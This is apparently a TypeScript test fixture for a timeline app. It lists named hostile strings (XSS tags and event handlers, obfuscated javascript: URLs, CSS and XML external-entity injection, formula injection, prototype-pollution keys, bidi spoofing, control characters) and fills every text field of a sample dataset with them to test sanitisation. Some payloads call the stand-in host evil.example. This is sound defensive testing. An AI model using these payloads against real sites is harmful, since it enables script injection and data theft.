// Strings that were made to break out of where a text stands. All that could act calls `hit()` or asks `evil.example`:
// a page that defines the one and watches for the other sees whether anything did.

const named: Readonly<Record<string, string>> = {
  script: "<script>hit()</script>",
  "script that closes a script": "</script><script>hit()</script>",
  "script in a comment": "<!--<script>hit()</script>",
  "end of a comment": "--><img src=x onerror=hit()>",
  "picture with a handler": "<img src=x onerror=hit()>",
  "drawing with a handler": "<svg onload=hit()>",
  "drawing with a script": "<svg><script>hit()</script></svg>",
  "script of a drawing by address": '<svg><script href="https://evil.example/a.js"/></svg>',
  "end of a title": "</title><script>hit()</script>",
  "end of a description": "</desc><foreignObject><img src=x onerror=hit()></foreignObject>",
  "end of a style": "</style><script>hit()</script>",
  "end of a text": "</tspan></text></svg><script>hit()</script>",
  "end of a list": "</li></ol></history-timeline><script>hit()</script>",
  "end of an attribute": '"><script>hit()</script>',
  "end of an attribute, one quote": "'><script>hit()</script>",
  "handler in an attribute": '" onmouseover="hit()" x="',
  "handler in an attribute, one quote": "' onfocus='hit()' autofocus x='",
  "handler without quotes": "x onpointerenter=hit() tabindex=0",
  "style in an attribute": '" style="background:url(https://evil.example/a.png)" x="',
  "address of a script": "javascript:hit()",
  "address of a script in capitals": "JaVaScRiPt:hit()",
  "address of a script behind a space": " javascript:hit()",
  "address of a script with a tab": "java\tscript:hit()",
  "address of a script with a line break": "java\nscript:hit()",
  "address of a script behind a control": "\u0001javascript:hit()",
  "address of a script as entities": "&#106;avascript&colon;hit()",
  "address that looks like one": "javascript://paper.example/%0Ahit()",
  "address of a page of text": "data:text/html,<script>hit()</script>",
  "address of an old script": "vbscript:hit()",
  "address without a scheme": "//evil.example/a.png",
  "reference of CSS": "url(https://evil.example/a.svg#x)",
  "end of a rule of CSS": "red}*{background:url(https://evil.example/a.png)",
  "import of CSS": "@import 'https://evil.example/a.css';",
  "expression of old CSS": "expression(hit())",
  "entity of XML": '<!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.example/e">]>&e;',
  "many entities": "&lol;&lol;&amp;lt;script&amp;gt;",
  "bare ampersands": "a & b &c; &#x3C;script&#x3E; &#0; &#xD800;",
  "section of characters": "]]><script>hit()</script><![CDATA[",
  instruction: '<?xml-stylesheet href="https://evil.example/a.xsl"?>',
  "template of a shadow tree": "<template shadowrootmode=open><script>hit()</script></template>",
  "form that sends": '<form action="https://evil.example/"><button>Next</button></form>',
  "frame with a document": "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
  "base of all addresses": '<base href="https://evil.example/">',
  "page that moves on": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  "key of all objects": "__proto__",
  "key of all functions": "constructor",
  "template of a script": "${hit()} {{hit()}} #{hit()}",
  "formula of a spreadsheet": '=HYPERLINK("https://evil.example","x")',
  "override of direction": "safe\u202egnp.exe",
  "isolate that is not closed": "safe\u2067\u2068\u2066\u202dgnp",
  "closing of what is not open": "a\u202c\u2069\u2069b",
  "null byte": "a\u0000b",
  "controls of a terminal": "\u001b[2J\u001b]0;owned\u0007\u009b31m",
  "all controls":
    Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join("") + "\u007f\u0085",
  "first half of a character": "a\ud83d",
  "second half of a character": "\udc00b",
  "halves the wrong way round": "\udc00\ud800",
  "no characters": "\ufffe\uffff\ufdd0",
  "line breaks of scripts": "a\u2028b\u2029c",
  "mark of byte order": "\ufeffa",
  "without width": "a\u200b\u200c\u200d\u2060b",
  "a tower of accents": `Z${"\u0300\u0301\u0302\u0303".repeat(200)}`,
  "a word without end": "W".repeat(5000),
  "a megabyte": `<b>${"long ".repeat(200_000)}</b>`,
  nothing: "",
  spaces: " \t\n ",
};

/** Hostile strings, each with what it tries. */
export const hostile: readonly (readonly [name: string, text: string])[] = Object.entries(named);

/** Those of a length that is worth putting everywhere. */
export const shortHostile: readonly (readonly [name: string, text: string])[] = hostile.filter(
  ([, text]) => text.length < 10_000,
);

/**
 * A dataset with one string wherever a text may stand. Ids stay what they are: what an id may be is checked where data
 * enter, and they are what links hold on to.
 */
export function poisoned(text: string): Record<string, unknown> {
  const cited = [
    { source: "s", states: null, words: text, locator: "headline", basis: "stated", paragraph: 1 },
  ];
  const event = (id: string, when: string, more: object = {}): object => ({
    id,
    kind: "k",
    title: text,
    summary: text,
    url: text,
    importance: 3,
    when,
    place: { name: text, country: "NO", host: "p", setting: "bilateral", occasion: text },
    by: ["p"],
    to: ["q"],
    with: ["p", { party: "q", as: text }],
    notes: [{ text, sources: ["s"] }],
    alternatives: [{ when: "2002", note: text, sources: ["s"] }],
    moments: [{ type: "announced", when: "2001-02", text }],
    outcome: { type: "lapsed", text, when: "2006", sources: ["s"] },
    values: [{ label: text, number: 3, unit: text, when: "2001", sources: ["s"] }],
    disputed: [{ by: "p", text, sources: ["s"] }],
    corrections: [{ field: "claim", stated: text, corrected: text, note: text, source: "s", support: ["s"] }],
    media: [{ type: "image", url: text, alt: text, caption: text, credit: text }],
    locales: JSON.parse(
      `{"__proto__": {"title": "polluted"}, "ru": {"title": ${JSON.stringify(text)}}}`,
    ) as object,
    extra: JSON.parse(`{"__proto__": {"polluted": true}}`) as object,
    sources: cited,
    ...more,
  });
  return {
    id: "poisoned",
    title: text,
    description: text,
    licence: text,
    version: text,
    kinds: [{ id: "k", label: text, color: text, symbol: text }],
    tracks: [{ id: "t", label: text }],
    parties: [
      { id: "p", name: text, type: "state" },
      { id: "q", name: text, type: "person", side: "p" },
    ],
    terms: [{ id: "t1", party: "q", office: text, side: "p", when: "2000/2010", sources: ["s"] }],
    sources: [
      { id: "s", type: "article", title: text, authors: [text], publisher: text, url: text, archived: text },
    ],
    events: [
      event("e1", "2001-02-03"),
      event("e2", "2003/2005", { track: "t" }),
      event("e3", "2004-05~", { links: [{ type: "follows", to: "e1" }] }),
      event("e4", "2004-05-06", { url: `https://paper.example/${text}`, kind: "k" }),
    ],
    readings: [{ id: "r", title: text, steps: [{ title: text, text, selected: "e1" }] }],
  };
}

/** The same without what is refused where data enter, so that the rest gets through. */
export function plausible(text: string): Record<string, unknown> {
  const url = "https://paper.example/a";
  const input = poisoned(text) as { kinds: object[]; sources: object[]; events: Record<string, unknown>[] };
  return {
    ...input,
    kinds: [{ id: "k", label: text }],
    sources: input.sources.map((source) => ({ ...source, url, archived: url })),
    events: input.events.map(({ locales: _, ...event }) => ({
      ...event,
      url,
      media: [],
      locales: { ru: { title: text, summary: text } },
    })),
  };
}
